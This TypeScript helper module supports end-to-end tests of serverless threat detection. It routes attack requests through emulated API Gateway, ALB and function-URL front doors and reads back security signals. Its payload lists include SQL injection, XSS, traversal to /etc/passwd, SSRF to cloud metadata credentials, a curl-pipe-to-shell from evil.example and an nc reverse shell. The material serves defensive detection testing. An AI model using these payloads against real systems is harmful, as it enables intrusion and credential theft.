/**
 * What the threat-detection end-to-end tests share: a handler that proves it ran (its request
 * id and a unique marker in the answer and in its log), the environment that turns detection
 * on, one function exposed behind every Nimbus front door (function URL, REST API, HTTP API,
 * ALB with and without multi-value headers) and reached over real HTTP, the attack requests
 * sent through them, and the security events read back from the server.
 */
import { randomUUID } from 'node:crypto';
import type { SecuritySignal } from '../../src/agent/model.ts';
import { CreateFunctionUrlConfigCommand } from '@aws-sdk/client-lambda';
import type { TestServer } from './nimbus.ts';
import { send, type RawResponse } from '../triggers/http-client.ts';
import type { EventShape } from '../fixtures/appsec/http-events.ts';

/**
 * The function under test. It answers in the shape of whichever trigger called it (ALB with
 * multi-value headers needs `multiValueHeaders`), and says which invocation it was, so that
 * every signal can be matched to its request. `SIDE_EFFECT_URL`, when set, is told about every
 * call: a record outside the function that a blocked request must never reach.
 */
export const appsecHandler = `
let calls = 0;
const headerOf = (event, name) => {
  for (const [k, v] of Object.entries(event.headers ?? {})) if (k.toLowerCase() === name) return v;
  for (const [k, v] of Object.entries(event.multiValueHeaders ?? {})) if (k.toLowerCase() === name) return v.at(-1);
  return undefined;
};
export const handler = async (event, context) => {
  calls++;
  const marker = headerOf(event, 'x-marker') ?? event.marker ?? 'none';
  console.log('handler reached ' + marker);
  if (process.env.SIDE_EFFECT_URL) await fetch(process.env.SIDE_EFFECT_URL, { method: 'POST', body: marker });
  const body = JSON.stringify({ requestId: context.awsRequestId, marker, calls, bodyLength: typeof event.body === 'string' ? Buffer.from(event.body, event.isBase64Encoded ? 'base64' : 'utf8').length : 0 });
  if (event.requestContext?.elb) {
    return event.multiValueHeaders
      ? { statusCode: 200, statusDescription: '200 OK', multiValueHeaders: { 'content-type': ['application/json'] }, body }
      : { statusCode: 200, statusDescription: '200 OK', headers: { 'content-type': 'application/json' }, body };
  }
  return { statusCode: 200, headers: { 'content-type': 'application/json' }, body };
};`;

/** What the handler answers. */
export interface HandlerAnswer {
  requestId: string;
  marker: string;
  calls: number;
  /** The request body's size in bytes, as the handler decoded it. */
  bodyLength: number;
}

/**
 * Threat detection on, through the wrapper. Flushing at the end of every invocation (what the
 * default strategy does for an environment's first 20) makes each request's signals reach the
 * store when its invocation ends, however many requests a test sends.
 */
export function appsecEnvironment(extra: Record<string, string> = {}): Record<string, string> {
  return { AWS_LAMBDA_EXEC_WRAPPER: '/opt/nimbus-wrapper', DD_SERVERLESS_APPSEC_ENABLED: 'true', DD_SERVERLESS_FLUSH_STRATEGY: 'end', ...extra };
}

/**
 * Memory for functions with the agent and its WAF: the agent process counts against the
 * function's memory as on Lambda, and with libddwaf and the ruleset loaded an environment sits
 * at about 128 MB, so 128 MB functions are killed for running out of memory under load.
 */
export const appsecMemoryMb = 512;

/** A unique marker for one request: never a prefix of another. */
export const newMarker = (tag: string): string => `${tag}-${randomUUID()}`;

/** The log line the handler writes for a marker. */
export const reachedLine = (marker: string): string => `handler reached ${marker}`;

export interface DoorRequest {
  method?: string;
  /** Percent-encoded, without the stage. */
  path: string;
  /** Without `?`. */
  query?: string;
  headers?: Array<[string, string]>;
  body?: string | Buffer;
}

/** One way into the function, over real HTTP. */
export interface FrontDoor {
  shape: EventShape;
  /** The trigger signals name. */
  trigger: 'function-url' | 'api-gateway-rest' | 'api-gateway-http' | 'alb';
  label: string;
  /** API Gateway's route templates name the route; function URLs and ALB have none. */
  hasRoutes: boolean;
  send(request: DoorRequest): Promise<RawResponse>;
}

async function putJson(server: TestServer, path: string, body: unknown): Promise<void> {
  const res = await server.fetch(path, { method: 'PUT', body: JSON.stringify(body) });
  if (res.status !== 200) throw new Error(`PUT ${path}: ${res.status} ${await res.text()}`);
  await res.arrayBuffer();
}

/**
 * Puts `functionName` behind all five doors. `tag` (3 lowercase letters or digits) keeps the
 * API ids and ALB target names of several functions apart. API Gateway routes: `/items/{id}`
 * (a path parameter) and the greedy `/{proxy+}` for everything else; REST serves stage `prod`.
 */
export async function exposeOnEveryFrontDoor(server: TestServer, functionName: string, tag: string): Promise<FrontDoor[]> {
  if (!/^[a-z0-9]{3}$/.test(tag)) throw new Error(`tag must be 3 lowercase letters or digits, got ${tag}`);
  const port = Number(new URL(server.url).port);
  const routes = [
    { RouteKey: 'ANY /items/{id}', FunctionName: functionName },
    { RouteKey: 'ANY /{proxy+}', FunctionName: functionName },
  ];
  const restId = `${tag}rest001`;
  const httpId = `${tag}http001`;
  await putJson(server, `/nimbus/v1/apis/${restId}`, { ProtocolType: 'REST', StageName: 'prod', Routes: routes });
  await putJson(server, `/nimbus/v1/apis/${httpId}`, { ProtocolType: 'HTTP', Routes: routes });
  await putJson(server, `/nimbus/v1/alb-targets/${tag}-single`, { FunctionName: functionName });
  await putJson(server, `/nimbus/v1/alb-targets/${tag}-multi`, { FunctionName: functionName, MultiValueHeaders: true });
  const url = await server.client.send(new CreateFunctionUrlConfigCommand({ FunctionName: functionName, AuthType: 'NONE' }));
  const urlHost = new URL(url.FunctionUrl!).host;

  const door = (shape: EventShape, trigger: FrontDoor['trigger'], label: string, host: string, prefix: string): FrontDoor => ({
    shape,
    trigger,
    label,
    hasRoutes: trigger === 'api-gateway-rest' || trigger === 'api-gateway-http',
    send: (r) => send({ port, host, method: r.method ?? 'GET', path: prefix + r.path + (r.query ? `?${r.query}` : ''), headers: r.headers, body: r.body }),
  });
  return [
    door('function-url', 'function-url', 'function URL', urlHost, ''),
    door('api-gateway-rest', 'api-gateway-rest', 'REST API (payload 1.0)', `${restId}.execute-api.us-east-1.localhost:${port}`, '/prod'),
    door('api-gateway-http', 'api-gateway-http', 'HTTP API (payload 2.0)', `${httpId}.execute-api.us-east-1.localhost:${port}`, ''),
    door('alb', 'alb', 'ALB', `${tag}-single.elb.us-east-1.localhost:${port}`, ''),
    door('alb-multi', 'alb', 'ALB (multi-value headers)', `${tag}-multi.elb.us-east-1.localhost:${port}`, ''),
  ];
}

/** A security event as `GET /nimbus/v1/security/events` lists it. */
export type StoredSignal = SecuritySignal & { functionName: string };

export async function securityEvents(server: TestServer, functionName: string): Promise<StoredSignal[]> {
  const res = await server.fetch(`/nimbus/v1/security/events?function=${encodeURIComponent(functionName)}&limit=10000`);
  if (!res.ok) throw new Error(`security events of ${functionName}: ${res.status} ${await res.text()}`);
  return ((await res.json()) as { events: StoredSignal[] }).events;
}

/** Runs `task` over `items`, at most `concurrency` at a time, results in input order. */
export async function mapConcurrently<T, R>(items: readonly T[], concurrency: number, task: (item: T, index: number) => Promise<R>): Promise<R[]> {
  const out = new Array<R>(items.length);
  let next = 0;
  const worker = async (): Promise<void> => {
    while (next < items.length) {
      const i = next++;
      out[i] = await task(items[i]!, i);
    }
  };
  await Promise.all(Array.from({ length: Math.min(concurrency, items.length) }, worker));
  return out;
}

// --- Attacks -------------------------------------------------------------------------------

/** Real payloads per category: each is detected by Datadog's recommended ruleset. */
export const attackPayloads = {
  sql_injection: ["1' OR '1'='1' --", '1 UNION SELECT username, password FROM users--', "' AND SLEEP(5)--"],
  xss: ['<script>alert(document.cookie)</script>', '<img src=x onerror=alert(1)>', '"><svg/onload=alert(1)>'],
  lfi: ['../../../../etc/passwd', '/etc/shadow'],
  ssrf: ['http://169.254.169.254/latest/meta-data/iam/security-credentials/', 'gopher://127.0.0.1:6379/_INFO'],
  command_injection: ['$(curl http://evil.example/x.sh | sh)', '| nc -e /bin/sh 10.0.0.1 4444'],
} as const;

export const browserUserAgent = 'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15';

/** Scanners the ruleset knows by their user agent (category `attack_tool`). */
export const scannerUserAgents = ['sqlmap/1.7.2#stable (https://sqlmap.org)', 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)', 'Arachni/v1.5.1'];

export interface HttpAttack {
  name: string;
  /** The category the ruleset reports (the rule's `tags.type`). */
  category: string;
  /** The signal names a parameter starting with one of these. */
  parameters: string[];
  request: DoorRequest;
  /** Which API Gateway route the request takes (`/items/{id}` or the greedy one). */
  route: '/items/{id}' | '/{proxy+}';
  /** The client address the signal must give: a public X-Forwarded-For entry, or the loopback peer. */
  clientIp: string;
  userAgent: string;
}

/**
 * Every attack of the matrix for one door: each payload in the query, a cookie, a JSON body and
 * a form body; traversal in the path; four headers; scanner user agents; and, where a route
 * template captures it (API Gateway), payloads in a path parameter. All but the scanners come
 * "through a proxy" from `forwardedFor`, a public address the signal must report.
 */
export function attackMatrix(door: FrontDoor, forwardedFor: string): HttpAttack[] {
  const attacks: HttpAttack[] = [];
  const headers = (...extra: Array<[string, string]>): Array<[string, string]> => [
    ['User-Agent', browserUserAgent],
    ['Accept', 'application/json'],
    ['X-Forwarded-For', forwardedFor],
    ...extra,
  ];
  const add = (name: string, category: string, parameter: string | string[], request: DoorRequest, route: HttpAttack['route'] = '/{proxy+}') =>
    attacks.push({ name, category, parameters: typeof parameter === 'string' ? [parameter] : parameter, request, route, clientIp: forwardedFor, userAgent: browserUserAgent });
  for (const [category, payloads] of Object.entries(attackPayloads)) {
    payloads.forEach((payload, i) => {
      const tag = `${category} #${i + 1}`;
      add(`query: ${tag}`, category, 'server.request.query.q', { path: '/search', query: `q=${encodeURIComponent(payload)}`, headers: headers() });
      add(`cookie: ${tag}`, category, 'server.request.cookies.session', { path: '/orders', headers: headers(['Cookie', `theme=dark; session=${encodeURIComponent(payload)}`]) });
      add(`JSON body: ${tag}`, category, 'server.request.body.user.name', {
        method: 'POST',
        path: '/orders',
        headers: headers(['Content-Type', 'application/json']),
        body: JSON.stringify({ user: { name: payload, age: 31 } }),
      });
      add(`form body: ${tag}`, category, 'server.request.body.comment', {
        method: 'POST',
        path: '/orders',
        headers: headers(['Content-Type', 'application/x-www-form-urlencoded']),
        body: new URLSearchParams({ email: 'a@example.com', comment: payload }).toString(),
      });
    });
  }
  // Behind API Gateway the greedy route captures the same path as the `proxy` parameter.
  const traversalIn = door.hasRoutes ? ['server.request.uri.raw', 'server.request.path_params.proxy'] : 'server.request.uri.raw';
  add('path: traversal', 'lfi', traversalIn, { path: '/static/..%2f..%2f..%2f..%2fetc%2fpasswd', headers: headers() });
  add('header: traversal', 'lfi', 'server.request.headers.no_cookies.x-file', { path: '/hello', headers: headers(['X-File', '../../../../etc/passwd']) });
  add('header: XSS in Referer', 'xss', 'server.request.headers.no_cookies.referer', { path: '/hello', headers: headers(['Referer', 'https://example.com/<script>alert(1)</script>']) });
  add('header: SSRF', 'ssrf', 'server.request.headers.no_cookies.x-callback-url', { path: '/hello', headers: headers(['X-Callback-Url', 'gopher://127.0.0.1:6379/_INFO']) });
  add('header: shell injection', 'command_injection', 'server.request.headers.no_cookies.x-build', { path: '/hello', headers: headers(['X-Build', '$(curl http://evil.example/x.sh | sh)']) });
  if (door.hasRoutes) {
    for (const [category, payload] of [
      ['sql_injection', '1 UNION SELECT username, password FROM users--'],
      ['xss', '<img src=x onerror=alert(1)>'],
      ['command_injection', '| nc -e /bin/sh 10.0.0.1 4444'],
      ['ssrf', 'http://169.254.169.254/latest/meta-data/'],
    ] as const) {
      add(`path parameter: ${category}`, category, 'server.request.path_params.id', { path: `/items/${encodeURIComponent(payload)}`, headers: headers() }, '/items/{id}');
    }
  }
  // Scanners connect directly: the client address is the front door's peer, the loopback.
  for (const ua of scannerUserAgents) {
    attacks.push({
      name: `scanner user agent: ${ua.split(' ')[0]}`,
      category: 'attack_tool',
      parameters: ['server.request.headers.no_cookies.user-agent'],
      request: { path: '/hello', headers: [['User-Agent', ua]] },
      route: '/{proxy+}',
      clientIp: '127.0.0.1',
      userAgent: ua,
    });
  }
  return attacks;
}

/** The request with a marker header added, so its handler log line (if any) can be found. */
export function marked(request: DoorRequest, marker: string): DoorRequest {
  return { ...request, headers: [...(request.headers ?? []), ['X-Marker', marker]] };
}
